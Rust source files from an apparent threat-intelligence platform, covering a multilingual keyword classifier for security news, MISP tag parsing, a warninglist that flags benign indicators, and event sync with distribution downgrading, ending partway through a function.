#![forbid(unsafe_code)]
#![warn(missing_docs)]

mod classify;
mod entity;
mod lexicon;
pub mod relevance;
mod token;

pub use classify::{ThreatClassifier, Verdict};
pub use entity::{extract_entities, Entity, EntityKind};
pub use lexicon::{Language, ThreatType};
pub use relevance::RelevanceTag;
pub use token::tokenize;
