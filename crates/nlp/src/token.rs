//! Tokenization of OSINT text.

/// Splits text into lowercase word tokens.
///
/// Tokens are maximal runs of alphanumeric characters plus the intra-word
/// connectors `-`, `.`, `_` and `'` (so `denial-of-service`,
/// `CVE-2017-9805` and `it's` each stay one token); connectors are
/// trimmed from token edges. Everything is lowercased, which suits both
/// the keyword lexicon and observable detection.
///
/// # Examples
///
/// ```
/// use cais_nlp::tokenize;
///
/// let tokens = tokenize("Massive DDoS attack (CVE-2017-9805)!");
/// assert_eq!(tokens, vec!["massive", "ddos", "attack", "cve-2017-9805"]);
/// ```
pub fn tokenize(text: &str) -> Vec<String> {
    let mut tokens = Vec::new();
    let mut current = String::new();
    for c in text.chars() {
        let keep = c.is_alphanumeric() || matches!(c, '-' | '.' | '_' | '\'');
        if keep {
            current.extend(c.to_lowercase());
        } else if !current.is_empty() {
            push_trimmed(&mut tokens, &mut current);
        }
    }
    if !current.is_empty() {
        push_trimmed(&mut tokens, &mut current);
    }
    tokens
}

fn push_trimmed(tokens: &mut Vec<String>, current: &mut String) {
    let trimmed = current.trim_matches(['-', '.', '_', '\'']);
    if !trimmed.is_empty() {
        tokens.push(trimmed.to_owned());
    }
    current.clear();
}

/// Produces the token list plus every adjacent bigram and trigram —
/// lexicon phrases span up to three words (`"security breach"`,
/// `"remote code execution"`, `"fuga de información"`).
pub fn tokens_and_bigrams(text: &str) -> Vec<String> {
    let tokens = tokenize(text);
    let mut out = Vec::with_capacity(tokens.len() * 3);
    for window in tokens.windows(3) {
        out.push(format!("{} {} {}", window[0], window[1], window[2]));
    }
    for window in tokens.windows(2) {
        out.push(format!("{} {}", window[0], window[1]));
    }
    out.extend(tokens);
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn basic_tokenization() {
        assert_eq!(tokenize("Hello, World!"), vec!["hello", "world"]);
        assert_eq!(tokenize(""), Vec::<String>::new());
        assert_eq!(tokenize("   "), Vec::<String>::new());
    }

    #[test]
    fn connectors_stay_inside_words() {
        assert_eq!(
            tokenize("denial-of-service via evil.example"),
            vec!["denial-of-service", "via", "evil.example"]
        );
    }

    #[test]
    fn edge_connectors_are_trimmed() {
        assert_eq!(tokenize("...weird--- 'quoted'"), vec!["weird", "quoted"]);
    }

    #[test]
    fn unicode_words_survive() {
        assert_eq!(
            tokenize("fuga de información"),
            vec!["fuga", "de", "información"]
        );
    }

    #[test]
    fn bigrams_are_generated() {
        let grams = tokens_and_bigrams("security breach reported");
        assert!(grams.contains(&"security breach".to_owned()));
        assert!(grams.contains(&"breach reported".to_owned()));
        assert!(grams.contains(&"security".to_owned()));
    }
}
