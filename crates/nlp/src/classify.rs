//! The weighted keyword classifier.

use std::collections::HashMap;

use serde::{Deserialize, Serialize};

use crate::lexicon::{Language, ThreatType, LEXICON};
use crate::token::tokens_and_bigrams;

/// Classifier verdict: per-threat evidence scores, the overall relevance
/// decision and a calibrated confidence.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Verdict {
    scores: Vec<(ThreatType, f64)>,
    confidence: f64,
    language: Option<Language>,
    matched_keywords: Vec<String>,
}

impl Verdict {
    /// Whether the text should be tagged *relevant* (any threat evidence
    /// above the classifier's threshold).
    pub fn is_relevant(&self) -> bool {
        self.confidence > 0.0
    }

    /// The dominant threat type, when any evidence was found.
    pub fn top_threat(&self) -> Option<ThreatType> {
        self.scores.first().map(|(t, _)| *t)
    }

    /// Per-threat evidence, strongest first. Scores are calibrated to
    /// (0, 1).
    pub fn scores(&self) -> &[(ThreatType, f64)] {
        &self.scores
    }

    /// Overall confidence in (0, 1): the paper forwards this to SIEMs
    /// "to avoid the issue of false alarms".
    pub fn confidence(&self) -> f64 {
        self.confidence
    }

    /// Best-guess language of the matched keywords.
    pub fn language(&self) -> Option<Language> {
        self.language
    }

    /// The lexicon keywords that fired, for explainability.
    pub fn matched_keywords(&self) -> &[String] {
        &self.matched_keywords
    }
}

/// A keyword-based threat classifier over the built-in multilingual
/// lexicon.
///
/// Evidence per threat type accumulates as `1 - Π(1 - wᵢ)` over matched
/// keyword weights — i.e. keywords act as independent weak detectors —
/// so confidence saturates toward 1 with corroborating evidence and a
/// single weak keyword yields a low score.
///
/// # Examples
///
/// ```
/// use cais_nlp::ThreatClassifier;
///
/// let classifier = ThreatClassifier::new();
/// assert!(classifier.classify("ransomware encrypted files at hospital").is_relevant());
/// assert!(!classifier.classify("quarterly earnings beat expectations").is_relevant());
/// ```
#[derive(Debug, Clone)]
pub struct ThreatClassifier {
    threshold: f64,
}

impl ThreatClassifier {
    /// Creates a classifier with the default relevance threshold (0.4).
    pub fn new() -> Self {
        ThreatClassifier { threshold: 0.4 }
    }

    /// Creates a classifier with a custom relevance threshold in [0, 1].
    /// Texts whose strongest threat evidence is below the threshold are
    /// tagged irrelevant (confidence 0).
    pub fn with_threshold(threshold: f64) -> Self {
        ThreatClassifier {
            threshold: threshold.clamp(0.0, 1.0),
        }
    }

    /// Classifies a text.
    pub fn classify(&self, text: &str) -> Verdict {
        let grams = tokens_and_bigrams(text);
        let mut survival: HashMap<ThreatType, f64> = HashMap::new();
        let mut language_votes: HashMap<&'static str, (Language, usize)> = HashMap::new();
        let mut matched = Vec::new();
        for entry in LEXICON {
            let hits = grams.iter().filter(|g| g.as_str() == entry.keyword).count();
            if hits == 0 {
                continue;
            }
            matched.push(entry.keyword.to_owned());
            let survive = survival.entry(entry.threat).or_insert(1.0);
            // Repeated mentions add evidence, with diminishing returns.
            for _ in 0..hits.min(3) {
                *survive *= 1.0 - entry.weight;
            }
            let vote = language_votes
                .entry(lang_key(entry.language))
                .or_insert((entry.language, 0));
            vote.1 += hits;
        }
        let mut scores: Vec<(ThreatType, f64)> = survival
            .into_iter()
            .map(|(threat, survive)| (threat, 1.0 - survive))
            .collect();
        scores.sort_by(|a, b| b.1.total_cmp(&a.1).then(a.0.cmp(&b.0)));
        let strongest = scores.first().map_or(0.0, |(_, s)| *s);
        let confidence = if strongest >= self.threshold {
            strongest
        } else {
            0.0
        };
        let language = language_votes
            .into_values()
            .max_by_key(|(_, count)| *count)
            .map(|(lang, _)| lang);
        Verdict {
            scores,
            confidence,
            language,
            matched_keywords: matched,
        }
    }
}

impl Default for ThreatClassifier {
    fn default() -> Self {
        ThreatClassifier::new()
    }
}

fn lang_key(language: Language) -> &'static str {
    match language {
        Language::English => "en",
        Language::Spanish => "es",
        Language::Portuguese => "pt",
        Language::French => "fr",
        Language::German => "de",
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn classify(text: &str) -> Verdict {
        ThreatClassifier::new().classify(text)
    }

    #[test]
    fn strong_keywords_dominate() {
        let v = classify("New ransomware campaign spreads via phishing emails");
        assert!(v.is_relevant());
        assert_eq!(v.top_threat(), Some(ThreatType::Ransomware));
        assert!(v.scores().iter().any(|(t, _)| *t == ThreatType::Phishing));
    }

    #[test]
    fn corroboration_raises_confidence() {
        let single = classify("a breach happened");
        let corroborated = classify("security breach: data breach with exfiltration of records");
        assert!(corroborated.confidence() > single.confidence());
    }

    #[test]
    fn irrelevant_text_scores_zero() {
        let v = classify("The weather in Lisbon is sunny today");
        assert!(!v.is_relevant());
        assert_eq!(v.confidence(), 0.0);
        assert_eq!(v.top_threat(), None);
    }

    #[test]
    fn weak_single_keyword_is_below_threshold() {
        // "worm" alone has weight 0.5 > 0.4 threshold; "ransom" 0.6.
        // Use "breach" (0.5) with a high threshold classifier.
        let strict = ThreatClassifier::with_threshold(0.7);
        let v = strict.classify("breach");
        assert!(!v.is_relevant());
        // The evidence is still reported in scores even when tagged
        // irrelevant.
        assert_eq!(v.scores().len(), 1);
    }

    #[test]
    fn multilingual_detection() {
        let es = classify("Grave fuga de información tras un acceso no autorizado");
        assert!(es.is_relevant());
        assert_eq!(es.language(), Some(Language::Spanish));

        let fr = classify("Un rançongiciel paralyse l'hôpital, hameçonnage suspecté");
        assert!(fr.is_relevant());
        assert_eq!(fr.top_threat(), Some(ThreatType::Ransomware));
        assert_eq!(fr.language(), Some(Language::French));

        let de = classify("Datenleck nach unbefugter zugriff auf Server");
        assert!(de.is_relevant());

        let pt = classify("Vazamento de dados atinge milhões de contas");
        assert!(pt.is_relevant());
        assert_eq!(pt.top_threat(), Some(ThreatType::Leak));
    }

    #[test]
    fn repeated_mentions_saturate() {
        let v = classify("ddos ddos ddos ddos ddos ddos ddos ddos");
        assert!(v.confidence() < 1.0);
        assert!(v.confidence() > 0.99);
    }

    #[test]
    fn matched_keywords_are_reported() {
        let v = classify("zero-day exploit enables remote code execution");
        assert!(v.matched_keywords().contains(&"zero-day".to_owned()));
        assert!(v
            .matched_keywords()
            .contains(&"remote code execution".to_owned()));
    }

    #[test]
    fn scores_are_sorted_descending() {
        let v = classify("phishing phishing phishing and a minor breach");
        let scores = v.scores();
        for pair in scores.windows(2) {
            assert!(pair[0].1 >= pair[1].1);
        }
    }

    #[test]
    fn serde_roundtrip() {
        let v = classify("ransomware outbreak");
        let json = serde_json::to_string(&v).unwrap();
        let back: Verdict = serde_json::from_str(&json).unwrap();
        assert_eq!(back, v);
    }
}
