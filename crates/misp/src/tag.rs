//! MISP tags and machine tags (taxonomy triples).

use std::fmt;

use serde::{Deserialize, Serialize};

/// A tag attached to an event or attribute.
///
/// Tags are either free-form (`struts`) or *machine tags* following the
/// `namespace:predicate="value"` / `namespace:predicate=value`
/// convention (for example `tlp:amber` or
/// `cais:threat-score="2.7406"`).
///
/// # Examples
///
/// ```
/// use cais_misp::Tag;
///
/// let tlp = Tag::new("tlp:amber");
/// assert_eq!(tlp.namespace(), Some("tlp"));
/// assert_eq!(tlp.predicate(), Some("amber"));
///
/// let score = Tag::machine("cais", "threat-score", "2.7406");
/// assert_eq!(score.value(), Some("2.7406"));
/// ```
#[derive(Debug, Clone, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(transparent)]
pub struct Tag {
    name: String,
}

impl Tag {
    /// Creates a tag from its full name.
    pub fn new(name: impl Into<String>) -> Self {
        Tag { name: name.into() }
    }

    /// Creates a machine tag `namespace:predicate="value"`.
    pub fn machine(namespace: &str, predicate: &str, value: &str) -> Self {
        Tag {
            name: format!("{namespace}:{predicate}=\"{value}\""),
        }
    }

    /// The full tag name.
    pub fn name(&self) -> &str {
        &self.name
    }

    /// The namespace part, when the tag is namespaced.
    pub fn namespace(&self) -> Option<&str> {
        self.name.split_once(':').map(|(ns, _)| ns)
    }

    /// The predicate part (between `:` and `=`), when namespaced.
    pub fn predicate(&self) -> Option<&str> {
        let (_, rest) = self.name.split_once(':')?;
        Some(rest.split_once('=').map_or(rest, |(p, _)| p))
    }

    /// The value part of a machine tag, unquoted.
    pub fn value(&self) -> Option<&str> {
        let (_, rest) = self.name.split_once(':')?;
        let (_, value) = rest.split_once('=')?;
        Some(value.trim_matches('"'))
    }

    /// The four standard TLP (Traffic Light Protocol) tags.
    pub fn tlp_white() -> Self {
        Tag::new("tlp:white")
    }

    /// `tlp:green`.
    pub fn tlp_green() -> Self {
        Tag::new("tlp:green")
    }

    /// `tlp:amber`.
    pub fn tlp_amber() -> Self {
        Tag::new("tlp:amber")
    }

    /// `tlp:red`.
    pub fn tlp_red() -> Self {
        Tag::new("tlp:red")
    }
}

impl fmt::Display for Tag {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.name)
    }
}

impl From<&str> for Tag {
    fn from(name: &str) -> Self {
        Tag::new(name)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn plain_tag_has_no_parts() {
        let tag = Tag::new("struts");
        assert_eq!(tag.namespace(), None);
        assert_eq!(tag.predicate(), None);
        assert_eq!(tag.value(), None);
    }

    #[test]
    fn namespaced_tag_parses() {
        let tag = Tag::new("tlp:amber");
        assert_eq!(tag.namespace(), Some("tlp"));
        assert_eq!(tag.predicate(), Some("amber"));
        assert_eq!(tag.value(), None);
    }

    #[test]
    fn machine_tag_roundtrip() {
        let tag = Tag::machine("cais", "threat-score", "2.7406");
        assert_eq!(tag.name(), "cais:threat-score=\"2.7406\"");
        assert_eq!(tag.namespace(), Some("cais"));
        assert_eq!(tag.predicate(), Some("threat-score"));
        assert_eq!(tag.value(), Some("2.7406"));
    }

    #[test]
    fn serde_is_transparent() {
        let tag = Tag::tlp_red();
        assert_eq!(serde_json::to_string(&tag).unwrap(), "\"tlp:red\"");
        let back: Tag = serde_json::from_str("\"tlp:red\"").unwrap();
        assert_eq!(back, tag);
    }
}
