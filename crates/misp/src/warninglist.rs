//! Warninglists: known-benign values that should not be treated as
//! indicators.
//!
//! MISP ships "warninglists" of values that routinely show up in feeds
//! but are never actionable — RFC 1918 addresses, loopback, reserved
//! documentation ranges, well-known public resolvers, reserved example
//! domains. Flagging them is how platforms "reduce false-positives"
//! (the capability the paper's related-work section credits mature
//! SIEMs with). The platform checks incoming attribute values and
//! either tags or drops hits, per configuration.

use cais_common::{Observable, ObservableKind};
use serde::{Deserialize, Serialize};

/// Why a value was flagged.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum WarningKind {
    /// RFC 1918 / link-local / loopback / unspecified address space.
    PrivateAddress,
    /// IETF documentation and benchmark address ranges (TEST-NET etc.).
    ReservedAddress,
    /// A well-known public DNS resolver.
    PublicResolver,
    /// A reserved or example domain (`example.com`, `.test`, …).
    ReservedDomain,
    /// A hash of the empty input (the classic junk indicator).
    EmptyInputHash,
}

impl std::fmt::Display for WarningKind {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let name = match self {
            WarningKind::PrivateAddress => "private-address",
            WarningKind::ReservedAddress => "reserved-address",
            WarningKind::PublicResolver => "public-resolver",
            WarningKind::ReservedDomain => "reserved-domain",
            WarningKind::EmptyInputHash => "empty-input-hash",
        };
        f.write_str(name)
    }
}

/// Well-known public resolvers whose addresses appear in every DNS log.
const PUBLIC_RESOLVERS: &[&str] = &[
    "8.8.8.8",
    "8.8.4.4",
    "1.1.1.1",
    "1.0.0.1",
    "9.9.9.9",
    "149.112.112.112",
    "208.67.222.222",
    "208.67.220.220",
];

/// Digests of the empty input: MD5, SHA-1 and SHA-256.
const EMPTY_HASHES: &[&str] = &[
    "d41d8cd98f00b204e9800998ecf8427e",
    "da39a3ee5e6b4b0d3255bfef95601890afd80709",
    "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
];

/// Checks one value against the built-in warninglists.
///
/// # Examples
///
/// ```
/// use cais_misp::warninglist::{check, WarningKind};
///
/// assert_eq!(check("192.168.1.14"), Some(WarningKind::PrivateAddress));
/// assert_eq!(check("8.8.8.8"), Some(WarningKind::PublicResolver));
/// assert_eq!(check("203.0.113.9"), Some(WarningKind::ReservedAddress));
/// assert_eq!(check("45.33.12.7"), None);
/// ```
pub fn check(value: &str) -> Option<WarningKind> {
    let value = value.trim();
    match ObservableKind::detect(value)? {
        ObservableKind::Ipv4 => check_ipv4(value),
        ObservableKind::Ipv6 => check_ipv6(value),
        ObservableKind::Domain => check_domain(&value.to_ascii_lowercase()),
        ObservableKind::Url => {
            let rest = value.split_once("://")?.1;
            let host = rest.split(['/', ':', '?']).next()?;
            check(host)
        }
        ObservableKind::Md5 | ObservableKind::Sha1 | ObservableKind::Sha256 => {
            let lower = value.to_ascii_lowercase();
            EMPTY_HASHES
                .contains(&lower.as_str())
                .then_some(WarningKind::EmptyInputHash)
        }
        _ => None,
    }
}

/// Checks an [`Observable`] directly.
pub fn check_observable(observable: &Observable) -> Option<WarningKind> {
    check(observable.value())
}

fn check_ipv4(value: &str) -> Option<WarningKind> {
    if PUBLIC_RESOLVERS.contains(&value) {
        return Some(WarningKind::PublicResolver);
    }
    let octets: Vec<u8> = value
        .split('.')
        .map(|part| part.parse().ok())
        .collect::<Option<Vec<u8>>>()?;
    let [a, b, ..] = octets[..] else { return None };
    let private = a == 10
        || (a == 172 && (16..=31).contains(&b))
        || (a == 192 && b == 168)
        || a == 127
        || (a == 169 && b == 254)
        || a == 0;
    if private {
        return Some(WarningKind::PrivateAddress);
    }
    // Documentation (TEST-NET-1/2/3) and benchmark ranges.
    let reserved = (a == 192 && b == 0 && octets[2] == 2)
        || (a == 198 && b == 51 && octets[2] == 100)
        || (a == 203 && b == 0 && octets[2] == 113)
        || (a == 198 && (b == 18 || b == 19))
        || a >= 224;
    reserved.then_some(WarningKind::ReservedAddress)
}

fn check_ipv6(value: &str) -> Option<WarningKind> {
    let lower = value.to_ascii_lowercase();
    if lower == "::1" || lower == "::" {
        return Some(WarningKind::PrivateAddress);
    }
    if lower.starts_with("fe80:") || lower.starts_with("fc") || lower.starts_with("fd") {
        return Some(WarningKind::PrivateAddress);
    }
    if lower.starts_with("2001:db8:") || lower.starts_with("2001:db8::") {
        return Some(WarningKind::ReservedAddress);
    }
    None
}

fn check_domain(value: &str) -> Option<WarningKind> {
    let reserved_suffixes = [
        ".example",
        ".test",
        ".invalid",
        ".localhost",
        ".local",
        ".onion",
        ".internal",
    ];
    if value == "example.com"
        || value == "example.org"
        || value == "example.net"
        || value.ends_with(".example.com")
        || value.ends_with(".example.org")
        || reserved_suffixes.iter().any(|s| value.ends_with(s))
    {
        return Some(WarningKind::ReservedDomain);
    }
    None
}

/// Splits attribute values into (benign hits, clean) — the bulk form the
/// collector uses before storing an event.
pub fn partition_values<'a, I>(values: I) -> (Vec<(&'a str, WarningKind)>, Vec<&'a str>)
where
    I: IntoIterator<Item = &'a str>,
{
    let mut hits = Vec::new();
    let mut clean = Vec::new();
    for value in values {
        match check(value) {
            Some(kind) => hits.push((value, kind)),
            None => clean.push(value),
        }
    }
    (hits, clean)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn private_ranges() {
        for ip in [
            "10.0.0.1",
            "172.16.0.1",
            "172.31.255.255",
            "192.168.1.14",
            "127.0.0.1",
            "169.254.0.1",
        ] {
            assert_eq!(check(ip), Some(WarningKind::PrivateAddress), "{ip}");
        }
        // 172.15 / 172.32 are public.
        assert_eq!(check("172.15.0.1"), None);
        assert_eq!(check("172.32.0.1"), None);
    }

    #[test]
    fn documentation_ranges() {
        for ip in [
            "192.0.2.1",
            "198.51.100.7",
            "203.0.113.9",
            "198.18.0.1",
            "224.0.0.1",
        ] {
            assert_eq!(check(ip), Some(WarningKind::ReservedAddress), "{ip}");
        }
    }

    #[test]
    fn resolvers_and_hashes() {
        assert_eq!(check("8.8.8.8"), Some(WarningKind::PublicResolver));
        assert_eq!(
            check("d41d8cd98f00b204e9800998ecf8427e"),
            Some(WarningKind::EmptyInputHash)
        );
        assert_eq!(
            check("E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855"),
            Some(WarningKind::EmptyInputHash)
        );
        // A real-looking hash is clean.
        assert_eq!(check("a41d8cd98f00b204e9800998ecf84bbb"), None);
    }

    #[test]
    fn reserved_domains_and_urls() {
        assert_eq!(check("evil.example"), Some(WarningKind::ReservedDomain));
        assert_eq!(check("example.com"), Some(WarningKind::ReservedDomain));
        assert_eq!(check("foo.test"), Some(WarningKind::ReservedDomain));
        assert_eq!(check("real-malware-site.ru"), None);
        assert_eq!(
            check("http://c2.evil.example/drop"),
            Some(WarningKind::ReservedDomain)
        );
        assert_eq!(check("http://genuine-threat.ru/x"), None);
    }

    #[test]
    fn ipv6_ranges() {
        assert_eq!(check("::1"), Some(WarningKind::PrivateAddress));
        assert_eq!(check("fe80::1"), Some(WarningKind::PrivateAddress));
        assert_eq!(check("fd00::1"), Some(WarningKind::PrivateAddress));
        assert_eq!(check("2001:db8::1"), Some(WarningKind::ReservedAddress));
        assert_eq!(check("2620:fe::fe"), None);
    }

    #[test]
    fn non_observables_are_clean() {
        assert_eq!(check("just some text"), None);
        assert_eq!(check(""), None);
        assert_eq!(check("CVE-2017-9805"), None);
    }

    #[test]
    fn partition_splits_correctly() {
        let values = ["10.0.0.1", "45.33.12.7", "8.8.8.8", "real-site.ru"];
        let (hits, clean) = partition_values(values);
        assert_eq!(hits.len(), 2);
        assert_eq!(clean, vec!["45.33.12.7", "real-site.ru"]);
    }
}
