//! Instance-to-instance synchronization with MISP distribution
//! semantics.
//!
//! MISP instances exchange events by push/pull; whether an event leaves
//! an instance is governed by its distribution level, and the level is
//! *downgraded one step per hop* so intelligence does not propagate
//! beyond the producer's intent:
//!
//! * `OrganizationOnly` — never synced,
//! * `CommunityOnly` — synced, arrives as `OrganizationOnly`,
//! * `ConnectedCommunities` — synced, arrives as `CommunityOnly`,
//! * `AllCommunities` — synced unchanged.

use crate::api::MispApi;
use crate::event::{Distribution, MispEvent};

/// The outcome of one synchronization run.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct SyncReport {
    /// Events considered on the source.
    pub considered: usize,
    /// Events actually transferred.
    pub transferred: usize,
    /// Events withheld by distribution policy.
    pub withheld: usize,
    /// Events skipped because the target already has them (by UUID).
    pub already_present: usize,
}

/// Computes the distribution level an event arrives with, or `None`
/// when it must not leave the instance.
pub fn downgrade(distribution: Distribution) -> Option<Distribution> {
    match distribution {
        Distribution::OrganizationOnly => None,
        Distribution::CommunityOnly => Some(Distribution::OrganizationOnly),
        Distribution::ConnectedCommunities => Some(Distribution::CommunityOnly),
        Distribution::AllCommunities => Some(Distribution::AllCommunities),
    }
}

/// Pushes every *published* shareable event from `source` to `target`.
///
/// Events already present on the target (same UUID) are skipped, making
/// the operation idempotent.
///
/// # Examples
///
/// ```
/// use cais_misp::{MispApi, MispEvent};
/// use cais_misp::event::Distribution;
/// use cais_misp::sync::push;
///
/// let source = MispApi::new("org-a");
/// let target = MispApi::new("org-b");
/// let mut event = MispEvent::new("shared intel");
/// event.distribution = Distribution::AllCommunities;
/// let id = source.add_event(event)?;
/// source.publish_event(id)?;
///
/// let report = push(&source, &target);
/// assert_eq!(report.transferred, 1);
/// assert_eq!(push(&source, &target).already_present, 1); // idempotent
/// # Ok::<(), cais_misp::MispError>(())
/// ```
pub fn push(source: &MispApi, target: &MispApi) -> SyncReport {
    let mut report = SyncReport::default();
    for event in source.store().all() {
        if !event.published {
            continue;
        }
        report.considered += 1;
        let Some(arrival_distribution) = downgrade(event.distribution) else {
            report.withheld += 1;
            continue;
        };
        if target.store().get_by_uuid(&event.uuid).is_some() {
            report.already_present += 1;
            continue;
        }
        let mut transferred: MispEvent = event.clone();
        transferred.id = 0;
        transferred.distribution = arrival_distribution;
        if target.add_event(transferred).is_ok() {
            report.transferred += 1;
        }
    }
    report
}

/// Pulls from `remote` into `local` — push with the roles swapped, which
/// is exactly how MISP implements it.
pub fn pull(local: &MispApi, remote: &MispApi) -> SyncReport {
    push(remote, local)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::attribute::{AttributeCategory, MispAttribute};

    fn published_event(api: &MispApi, info: &str, distribution: Distribution) -> u64 {
        let mut event = MispEvent::new(info);
        event.distribution = distribution;
        event.add_attribute(MispAttribute::new(
            "domain",
            AttributeCategory::NetworkActivity,
            format!("{}.example", info),
        ));
        let id = api.add_event(event).unwrap();
        api.publish_event(id).unwrap();
        id
    }

    #[test]
    fn distribution_gates_transfer() {
        let source = MispApi::new("a");
        let target = MispApi::new("b");
        published_event(&source, "org-only", Distribution::OrganizationOnly);
        published_event(&source, "community", Distribution::CommunityOnly);
        published_event(&source, "connected", Distribution::ConnectedCommunities);
        published_event(&source, "all", Distribution::AllCommunities);

        let report = push(&source, &target);
        assert_eq!(report.considered, 4);
        assert_eq!(report.withheld, 1);
        assert_eq!(report.transferred, 3);
        assert_eq!(target.store().len(), 3);
    }

    #[test]
    fn distribution_downgrades_per_hop() {
        let a = MispApi::new("a");
        let b = MispApi::new("b");
        let c = MispApi::new("c");
        published_event(&a, "two-hops", Distribution::ConnectedCommunities);

        push(&a, &b);
        let on_b = &b.store().all()[0];
        assert_eq!(on_b.distribution, Distribution::CommunityOnly);

        // Re-publish on b so the second hop considers it.
        b.publish_event(on_b.id).unwrap();
        push(&b, &c);
        let on_c = &c.store().all()[0];
        assert_eq!(on_c.distribution, Distribution::OrganizationOnly);

        // A third hop is impossible.
        let d = MispApi::new("d");
        c.publish_event(on_c.id).unwrap();
        let report = push(&c, &d);
        assert_eq!(report.withheld, 1);
        assert_eq!(d.store().len(), 0);
    }

    #[test]
    fn unpublished_events_stay_home() {
        let source = MispApi::new("a");
        let target = MispApi::new("b");
        let mut event = MispEvent::new("draft");
        event.distribution = Distribution::AllCommunities;
        source.add_event(event).unwrap();
        let report = push(&source, &target);
        assert_eq!(report.considered, 0);
        assert_eq!(target.store().len(), 0);
    }

    #[test]
    fn pull_mirrors_push() {
        let local = MispApi::new("local");
        let remote = MispApi::new("remote");
        published_event(&remote, "intel", Distribution::AllCommunities);
        let report = pull(&local, &remote);
        assert_eq!(report.transferred, 1);
        assert_eq!(local.store().len(), 1);
    }

    #[test]
    fn transferred_event_keeps_uuid_and_content() {
        let source = MispApi::new("a");
        let target = MispApi::new("b");
        let id = published_event(&source, "intel", Distribution::AllCommunities);
        let original = source.get_event(id).unwrap();
        push(&source, &target);
        let copy = target.store().get_by_uuid(&original.uuid).unwrap();
        assert_eq!(copy.info, original.info);
        assert_eq!(copy.attributes.len(), original.attributes.len());
        // The copy belongs to the target org's store but retains origin.
        assert_eq!(copy.org, "b");
    }
}
