//! Instance-to-instance synchronization with MISP distribution
//! semantics.
//!
//! MISP instances exchange events by push/pull; whether an event leaves
//! an instance is governed by its distribution level, and the level is
//! *downgraded one step per hop* so intelligence does not propagate
//! beyond the producer's intent:
//!
//! * `OrganizationOnly` — never synced,
//! * `CommunityOnly` — synced, arrives as `OrganizationOnly`,
//! * `ConnectedCommunities` — synced, arrives as `CommunityOnly`,
//! * `AllCommunities` — synced unchanged.

use std::time::Duration;

use cais_common::resilience::{site_hash, FaultKind, FaultPlan, RetryPolicy, Sleeper};
use cais_telemetry::TraceContext;
use rand::rngs::StdRng;
use rand::SeedableRng;

use crate::api::MispApi;
use crate::error::MispError;
use crate::event::{Distribution, MispEvent};
use crate::store::MergeOutcome;

/// The outcome of one synchronization run.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct SyncReport {
    /// Events considered on the source.
    pub considered: usize,
    /// Events actually transferred.
    pub transferred: usize,
    /// Events withheld by distribution policy.
    pub withheld: usize,
    /// Events skipped because the target already has them (by UUID).
    pub already_present: usize,
}

/// Computes the distribution level an event arrives with, or `None`
/// when it must not leave the instance.
pub fn downgrade(distribution: Distribution) -> Option<Distribution> {
    match distribution {
        Distribution::OrganizationOnly => None,
        Distribution::CommunityOnly => Some(Distribution::OrganizationOnly),
        Distribution::ConnectedCommunities => Some(Distribution::CommunityOnly),
        Distribution::AllCommunities => Some(Distribution::AllCommunities),
    }
}

/// What [`apply_remote`] did with one wire-delivered event.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ApplyOutcome {
    /// First delivery: inserted with the hop-downgraded distribution.
    Inserted,
    /// The UUID was known and this delivery contributed something new
    /// (attributes another path had filtered, a wider distribution).
    Merged,
    /// The UUID was known and this delivery contributed nothing — the
    /// idempotent confirm of a replay or an ack-lost re-delivery.
    Unchanged,
    /// The wire distribution does not permit this hop
    /// (`OrganizationOnly` never leaves an instance).
    Withheld,
}

/// Applies one wire-delivered event to `target` — the single apply
/// path shared by in-proc sync push and the federation TCP service.
///
/// The hop downgrade is computed *here, once per delivery*, from the
/// distribution the event carried on the wire. The insert-or-merge
/// below ([`crate::store::MispStore::merge_by_uuid`]) joins
/// distributions with `max` and never lowers a stored one, so a
/// re-delivered copy (lost ack, replay) confirms idempotently instead
/// of decaying the event a second hop — the UUID-idempotent confirm
/// covers the downgrade, not just the insert.
///
/// # Errors
///
/// Returns attribute-validation errors from the store.
pub fn apply_remote(
    target: &MispApi,
    wire: &MispEvent,
    parent: Option<TraceContext>,
) -> Result<ApplyOutcome, MispError> {
    let Some(arrival_distribution) = downgrade(wire.distribution) else {
        return Ok(ApplyOutcome::Withheld);
    };
    let mut copy = wire.clone();
    copy.id = 0;
    copy.org = target.org().to_owned();
    copy.distribution = arrival_distribution;
    match target.store().merge_by_uuid(copy, parent)? {
        MergeOutcome::Inserted(id) => {
            target.announce("misp.event.created", id);
            Ok(ApplyOutcome::Inserted)
        }
        MergeOutcome::Merged(id) => {
            target.announce("misp.event.updated", id);
            Ok(ApplyOutcome::Merged)
        }
        MergeOutcome::Unchanged(_) => Ok(ApplyOutcome::Unchanged),
    }
}

/// Pushes every *published* shareable event from `source` to `target`.
///
/// Events already present on the target (same UUID) are skipped, making
/// the operation idempotent.
///
/// # Examples
///
/// ```
/// use cais_misp::{MispApi, MispEvent};
/// use cais_misp::event::Distribution;
/// use cais_misp::sync::push;
///
/// let source = MispApi::new("org-a");
/// let target = MispApi::new("org-b");
/// let mut event = MispEvent::new("shared intel");
/// event.distribution = Distribution::AllCommunities;
/// let id = source.add_event(event)?;
/// source.publish_event(id)?;
///
/// let report = push(&source, &target);
/// assert_eq!(report.transferred, 1);
/// assert_eq!(push(&source, &target).already_present, 1); // idempotent
/// # Ok::<(), cais_misp::MispError>(())
/// ```
pub fn push(source: &MispApi, target: &MispApi) -> SyncReport {
    let mut report = SyncReport::default();
    // A sync push is an ingress on the target: mint a root trace there
    // and record each transferred insert as its child.
    let mut span = target.tracer().map(|t| t.root("sync", "sync_push"));
